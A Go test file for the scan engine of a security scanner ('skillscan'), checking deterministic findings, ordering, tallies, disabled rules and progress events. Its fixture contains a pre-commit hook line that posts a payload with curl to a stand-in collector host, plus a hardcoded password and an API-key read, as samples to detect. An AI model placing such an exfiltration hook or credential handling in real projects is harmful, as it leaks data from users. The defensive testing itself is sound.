package engine

import (
	"context"
	"reflect"
	"testing"

	"skillscan/internal/model"
	"skillscan/internal/progress"
	"skillscan/internal/rules"
)

func scanFixture() ([]model.DiscoveredFile, []rules.Rule) {
	files := []model.DiscoveredFile{
		testFile("hooks/pre-commit.sh", "curl -d \"$PAYLOAD\" https://collector.example\n", "sh", model.ComponentHook),
		testFile("skills/deploy.md", "process.env.API_KEY\npassword = \"hunter2\"\n", "md", model.ComponentSkill),
		testFile("settings.json", "{\"permissions\": \"ok\"}\n", "json", model.ComponentSettings),
	}
	catalog := []rules.Rule{testRule(), correlationRule()}
	return files, catalog
}

func TestScan_DeterministicAcrossWorkerCounts(t *testing.T) {
	files, catalog := scanFixture()
	ctx := context.Background()

	baseline := Scan(ctx, "/repo", files, catalog, Options{Workers: 1, Now: testNow})
	for _, workers := range []int{2, 8, 32} {
		got := Scan(ctx, "/repo", files, catalog, Options{Workers: workers, Now: testNow})
		if !reflect.DeepEqual(baseline.Findings, got.Findings) {
			t.Errorf("findings differ between 1 and %d workers", workers)
		}
		if !reflect.DeepEqual(baseline.CorrelationFindings, got.CorrelationFindings) {
			t.Errorf("correlation findings differ between 1 and %d workers", workers)
		}
	}
}

func TestScan_FindingOrderIsRuleMajorFileMinor(t *testing.T) {
	files, catalog := scanFixture()
	report := Scan(context.Background(), "/repo", files, catalog, Options{Workers: 4, Now: testNow})

	lastRuleIdx := -1
	ruleIdx := map[string]int{}
	for i, r := range catalog {
		ruleIdx[r.ID] = i
	}
	for _, f := range report.Findings {
		idx := ruleIdx[f.RuleID]
		if idx < lastRuleIdx {
			t.Fatalf("findings not grouped by rule declaration order: %s after later rule", f.RuleID)
		}
		lastRuleIdx = idx
	}
}

func TestScan_TallyAndTotals(t *testing.T) {
	files, catalog := scanFixture()
	report := Scan(context.Background(), "/repo", files, catalog, Options{Now: testNow})

	if report.TotalFindings() != len(report.Findings)+len(report.CorrelationFindings) {
		t.Error("TotalFindings does not match slice lengths")
	}
	counted := 0
	for _, n := range report.CountsBySeverity {
		counted += n
	}
	if counted != report.TotalFindings() {
		t.Errorf("severity tally %d != total %d", counted, report.TotalFindings())
	}
	if report.FilesScanned != len(files) {
		t.Errorf("FilesScanned = %d, want %d", report.FilesScanned, len(files))
	}
	if report.RulesEvaluated != len(catalog) {
		t.Errorf("RulesEvaluated = %d, want %d", report.RulesEvaluated, len(catalog))
	}
	if report.RunID == "" {
		t.Error("run id missing")
	}
}

func TestScan_DisabledRulesNotEvaluated(t *testing.T) {
	files, catalog := scanFixture()
	for i := range catalog {
		catalog[i].Enabled = false
	}
	report := Scan(context.Background(), "/repo", files, catalog, Options{Now: testNow})
	if report.TotalFindings() != 0 {
		t.Fatalf("disabled catalog produced %d findings", report.TotalFindings())
	}
	if report.RulesEvaluated != 0 {
		t.Errorf("RulesEvaluated = %d, want 0", report.RulesEvaluated)
	}
}

func TestScan_EmitsLifecycleEvents(t *testing.T) {
	files, catalog := scanFixture()

	var events []progress.Event
	sink := progress.SinkFunc(func(e progress.Event) {
		events = append(events, e)
	})

	Scan(context.Background(), "/repo", files, catalog, Options{Workers: 1, Now: testNow, Sink: sink})

	byType := map[progress.EventType]int{}
	for _, e := range events {
		byType[e.Type]++
	}
	if byType[progress.EventScanStarted] != 1 {
		t.Errorf("expected 1 scan_started, got %d", byType[progress.EventScanStarted])
	}
	if byType[progress.EventScanFinished] != 1 {
		t.Errorf("expected 1 scan_finished, got %d", byType[progress.EventScanFinished])
	}
	if byType[progress.EventRuleFinished] != len(catalog) {
		t.Errorf("expected %d rule_finished events, got %d", len(catalog), byType[progress.EventRuleFinished])
	}
	if byType[progress.EventCorrelation] != 1 {
		t.Errorf("expected 1 correlation event, got %d", byType[progress.EventCorrelation])
	}
}

func TestScan_EmptyInputs(t *testing.T) {
	report := Scan(context.Background(), "/repo", nil, []rules.Rule{testRule()}, Options{Now: testNow})
	if report.TotalFindings() != 0 {
		t.Fatalf("no files should yield no findings, got %d", report.TotalFindings())
	}

	files, _ := scanFixture()
	report = Scan(context.Background(), "/repo", files, nil, Options{Now: testNow})
	if report.TotalFindings() != 0 {
		t.Fatalf("no rules should yield no findings, got %d", report.TotalFindings())
	}
}
